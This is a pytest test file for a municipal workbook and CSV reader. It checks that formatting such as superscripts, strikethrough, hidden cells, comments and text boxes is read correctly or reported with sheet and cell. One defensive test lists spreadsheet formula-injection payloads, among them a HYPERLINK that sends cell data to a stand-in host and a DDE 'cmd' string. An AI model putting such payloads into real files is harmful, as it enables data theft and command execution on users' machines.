"""What a workbook's formatting says: read rightly, or left out and told with sheet and cell."""

import zipfile

import openpyxl
import pytest
import xlsxwriter
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from kretslopp import workbooks
from kretslopp.errors import UnreadableInput
from kretslopp.workbooks.footnotes import doubtful_footnotes
from workbooks.forms import ACTION, LIMITS, Workbook, csv_form, read

RAISED, STRUCK = InlineFont(vertAlign="superscript"), InlineFont(strike=True)


@pytest.fixture
def book(tmp_path):
    """A workbook with two actions."""
    made = Workbook(tmp_path / "form.xlsx")
    return made.put("municipal", 2, **ACTION).put("municipal", 3, **{**ACTION, "nr": "2"})


def told(form):
    """What was told: sheet, cell or row, and the sentence."""
    return [
        (fault.place.sheet, fault.place.cell or fault.place.row, str(fault)) for fault in form.told
    ]


def only(form):
    ((sheet, where, sentence),) = told(form)
    return sheet, where, sentence


def test_a_workbook_without_formatting_tells_nothing(book):
    form = book.read()
    assert told(form) == []
    assert form.faults == ()


@pytest.mark.parametrize(
    ("column", "text", "value"), [("mål", "4,5", "4,5"), ("år", "2027", "2027"), ("nr", "1", "1")]
)
def test_a_raised_digit_is_a_footnotes_mark_and_no_part_of_a_number(book, column, text, value):
    cell = book.cell("municipal", 2, column)
    cell.value = CellRichText(text, TextBlock(RAISED, "1"))
    form = book.read()
    assert form.tables["municipal"].rows[0][column] == value
    sheet, where, sentence = only(form)
    assert (sheet, where) == ("municipal", cell.coordinate)
    assert "The raised 1" in sentence


def test_a_raised_digit_in_shared_texts_and_in_csv_files(book, tmp_path):
    book.put("municipal", 2, mål="7¹")
    assert book.read().tables["municipal"].rows[0]["mål"] == "7"
    form = read(csv_form(tmp_path / "csv", municipal=[{**ACTION, "mål": "4,5²"}]))
    assert form.tables["municipal"].rows[0]["mål"] == "4,5"
    assert [fault.place.row for fault in form.told] == [2]


def test_the_mark_of_a_footnote_stays_with_a_word(book):
    book.cell("municipal", 2, "åtgärder").value = CellRichText(
        "Mät matsvinnet", TextBlock(RAISED, "1"), " på 5 m", TextBlock(RAISED, "2")
    )
    form = book.read()
    assert form.tables["municipal"].rows[0]["åtgärder"] == "Mät matsvinnet1 på 5 m²"
    assert told(form) == []


def test_a_footnote_whose_mark_was_raised_in_a_goal_is_not_doubted(book):
    book.put("footnotes", 2, nr="1", text="Bara skolor.", tabell="municipal", rad="2")
    book.put("municipal", 2, mål="4¹")
    form = book.read()
    assert list(doubtful_footnotes(form)) == []


def test_a_struck_word_is_left_out_and_told(book):
    cell = book.cell("municipal", 2, "åtgärder")
    cell.value = CellRichText("Mät ", TextBlock(STRUCK, "inte "), "matsvinnet")
    form = book.read()
    assert form.tables["municipal"].rows[0]["åtgärder"] == "Mät matsvinnet"
    sheet, where, sentence = only(form)
    assert (sheet, where) == ("municipal", cell.coordinate)
    assert "“inte” is struck through and was left out" in sentence


def test_a_struck_row_is_no_row(book):
    for cell in book.book["municipal"][3]:
        cell.font = Font(strike=True)
    form = book.read()
    assert [row["nr"] for row in form.tables["municipal"].rows] == ["1"]
    assert len(form.told) == len(ACTION)
    assert all(fault.place.cell.endswith("3") for fault in form.told)


@pytest.mark.parametrize(
    "unseen",
    [
        {"font": Font(color="FFFFFFFF")},
        {"font": Font(color=openpyxl.styles.colors.Color(theme=0))},
        {"font": Font(color="FF112233"), "fill": PatternFill("solid", fgColor="FF112233")},
        {"number_format": ";;;"},
    ],
)
def test_what_nobody_sees_is_left_out_and_told(book, unseen):
    cell = book.cell("municipal", 2, "ansvar")
    for name, value in unseen.items():
        setattr(cell, name, value)
    form = book.read()
    assert form.tables["municipal"].rows[0]["ansvar"] == ""
    assert any("“Miljökontor” can't be seen" in sentence for _, _, sentence in told(form))


def test_white_letters_on_a_dark_ground_are_read(book):
    cell = book.cell("municipal", 2, "ansvar")
    cell.font, cell.fill = Font(color="FFFFFFFF"), PatternFill("solid", fgColor="FF003366")
    form = book.read()
    assert form.tables["municipal"].rows[0]["ansvar"] == "Miljökontor"
    sheet, _, sentence = only(form)
    assert sheet == "municipal"
    assert f"The cells {cell.coordinate} have a colour" in sentence


def test_hidden_rows_columns_and_sheets_are_read_and_told(book):
    sheet = book.book["municipal"]
    sheet.row_dimensions[3].hidden = True
    sheet.row_dimensions[40].hidden = True  # there is nothing in it
    sheet.column_dimensions["C"].hidden = True
    sheet.sheet_state = "hidden"
    form = book.read()
    assert [row["nr"] for row in form.tables["municipal"].rows] == ["1", "2"]
    said = [sentence for _, _, sentence in told(form)]
    assert len(said) == 3
    assert "sheet municipal: The sheet is hidden" in said[0]
    assert "row 3: The row is hidden" in said[1]
    assert "Column C is hidden" in said[2]


def test_comments_and_links_are_told(book):
    cell = book.cell("municipal", 2, "åtgärder")
    cell.comment = Comment("Utgår!", "Eva")
    cell.hyperlink = "https://example.org/plan"
    cell.value = "Mät"
    said = [sentence for _, where, sentence in told(book.read()) if where == cell.coordinate]
    assert "The comment “Utgår!” was not read" in said[0]
    assert "leads to https://example.org/plan" in said[1]


def test_a_text_box_is_told_with_its_words(book, tmp_path):
    path = tmp_path / "boxed.xlsx"

    own = xlsxwriter.Workbook(path)
    sheet = own.add_worksheet("municipal")
    sheet.write_row(0, 0, ["nr", "åtgärder"])
    sheet.write_row(1, 0, ["1", "Mät"])
    sheet.insert_textbox(3, 3, "Gäller bara\nskolor")
    own.close()
    sheet_name, _, sentence = only(read(path))
    assert sheet_name == "municipal"
    assert "The text box “Gäller bara skolor” upon the sheet was not read." in sentence


@pytest.mark.parametrize("ditto", ["-”-", "”", "dito", "''", "d:o", "– ” –"])
def test_signs_for_as_above_are_refused(tmp_path, ditto):
    rows = [ACTION, {**ACTION, "nr": "2", "målområde": ditto, "ansvar": ditto}]
    faults = read(csv_form(tmp_path / "csv", municipal=rows)).faults
    assert {(fault.place.row, fault.place.column) for fault in faults} == {
        (3, "målområde"), (3, "ansvar")
    }  # fmt: skip
    assert all("stands for what is above" in fault.message for fault in faults)


def test_a_blank_goal_area_below_another_is_told(tmp_path):
    rows = [ACTION, {**ACTION, "nr": "2", "målområde": ""}]
    form = read(csv_form(tmp_path / "csv", municipal=rows))
    (fault,) = form.told
    assert (fault.place.row, fault.place.column) == (3, "målområde")
    assert "empty below “Matsvinn”" in fault.message


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.test?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-2+3+cmd|x"],
)
def test_what_a_spreadsheet_may_run_is_told_and_kept(tmp_path, text):
    form = read(csv_form(tmp_path / "csv", separator="\t" if "\t" not in text else ";",
                         municipal=[{**ACTION, "åtgärder": text}]))  # fmt: skip
    (fault,) = form.told
    assert (fault.place.row, fault.place.column) == (2, "åtgärder")
    assert form.tables["municipal"].rows[0]["åtgärder"] == text.strip()


@pytest.mark.parametrize("text", ["-", "-25 %", "+5", "–2025"])
def test_numbers_with_a_sign_are_no_formulas(tmp_path, text):
    assert read(csv_form(tmp_path / "csv", municipal=[{**ACTION, "åtgärder": text}])).told == ()


@pytest.mark.parametrize("text", ["MÃ¤t matsvinnet", "M\ufffdt matsvinnet"])
@pytest.mark.parametrize("column", ["åtgärder", "ansvar", "målområde", "mål"])
def test_damaged_text_is_refused_in_every_column(tmp_path, text, column):
    (fault,) = read(csv_form(tmp_path / "csv", municipal=[{**ACTION, column: text}])).faults
    assert (fault.place.row, fault.place.column) == (2, column)


def test_what_nobody_sees_in_a_refused_cell_has_its_name(tmp_path):
    form = read(csv_form(tmp_path / "csv", municipal=[{**ACTION, "lagkrav": "Х"}]))
    assert "“Х[U+0425 CYRILLIC CAPITAL LETTER HA]” is not a mark." in str(form.faults[0])


def test_strict_open_xml_is_told_by_its_name(book, tmp_path):
    strict = tmp_path / "strict.xlsx"
    with zipfile.ZipFile(book.save()) as source, zipfile.ZipFile(strict, "w") as target:
        for name in source.namelist():
            body = source.read(name).replace(
                b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                b"http://purl.oclc.org/ooxml/spreadsheetml/main",
            )
            target.writestr(name, body)
    with pytest.raises(UnreadableInput, match=r"Strict Open XML.*Save it in Excel as"):
        workbooks.read_form((strict,), LIMITS)
